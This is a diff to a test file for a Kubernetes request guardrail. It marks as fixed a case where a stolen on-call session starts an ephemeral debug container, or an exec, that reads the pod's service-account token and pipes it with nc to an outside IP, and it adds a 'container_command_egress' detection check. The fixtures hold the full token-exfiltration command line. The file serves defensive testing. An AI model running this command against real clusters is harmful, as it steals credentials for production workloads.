@@ -95,14 +95,11 @@ describe('from the victim\'s own laptop, network, client and token, in the worki
     ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app'],
   ];
 
-  // An ephemeral container is `kubectl debug`, which the on-call ran an hour before in the same
-  // namespace; this one runs a command that reads the target's token through /proc/1/root and
-  // sends it out. `kubectl debug -- sh -c …` sends a command too, and exec (which the on-call may
-  // do) reads the same file: what differs is what the command does, which stepgate does not judge.
-  // An ephemeral container is judged no weaker than exec (the tests at the end of this file); the
-  // same command through exec from this login is allowed too, so asking more of the debug
-  // container alone would move the malware to exec.
-  it.fails("an ephemeral container whose command reads the pod's token and sends it out is not allowed on the morning's sign-in", async () => {
+  // Fixed (guardrail, session 45): an ephemeral container is `kubectl debug`, which the on-call ran
+  // an hour before in the same namespace; this one runs a command that reads the target's token
+  // through /proc/1/root and pipes it to nc (container_command_egress, critical). The same command
+  // through exec is read from the exec's query and asked the same (below).
+  it("an ephemeral container whose command reads the pod's token and sends it out is not allowed on the morning's sign-in", async () => {
     const login = await twoDays('oncall-a@fin.example', ONCALL);
     const body = JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'alpine:3.21', command: ['sh', '-c', 'cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.135.232.18 443'], targetContainerName: 'api' }] } });
     const res = await send(login, THU + 1.5 * H, 'PATCH', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-r8w3z/ephemeralcontainers', { body, contentType: SMP });
@@ -287,9 +284,9 @@ describe('an ephemeral container is judged no weaker than exec into the same pod
     }
   });
 
-  // Open, with figures: what the attack's container runs, `exec` runs too. The same command through
-  // exec (`kubectl exec -c api -- sh -c 'cat …token | nc …'`) from the same login a minute later
-  // is allowed, like the debug container: asking more of one would move the malware to the other.
+  // What the attack's container runs, `exec` runs too (`kubectl exec -c api -- sh -c 'cat …token |
+  // nc …'`) from the same login a minute later: both are asked the same since session 45 (allowed
+  // both before), so asking more of one does not move the malware to the other.
   it("the attack's command through exec, from the same login, gets the ephemeral container's answer", async () => {
     const login = await twoDays('oncall-d@fin.example', [
       ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
@@ -299,6 +296,7 @@ describe('an ephemeral container is judged no weaker than exec into the same pod
     const viaExec = await send(login, THU + 1.5 * H, 'POST', `/api/v1/namespaces/payments-prod/pods/${POD}/exec?command=sh&command=-c&command=${encodeURIComponent(cmd)}&container=api&stdout=true&stderr=true`, { headers: { connection: 'Upgrade', upgrade: 'SPDY/3.1' } });
     const viaDebug = await send(login, THU + 1.5 * H + M, 'PATCH', eph('payments-prod'), { body: JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'alpine:3.21', command: ['sh', '-c', `cat /proc/1/root${cmd.slice(3)}`], targetContainerName: 'api' }] } }), contentType: SMP });
     expect([reasonOf(viaExec), reasonOf(viaDebug)]).toEqual([reasonOf(viaDebug), reasonOf(viaExec)]);
-    expect(reasonOf(viaExec)).toBe('allowed');
+    expect(reasonOf(viaExec)).not.toBe('allowed');
+    expect(rules(viaExec)).toContain('container_command_egress');
   });
 });
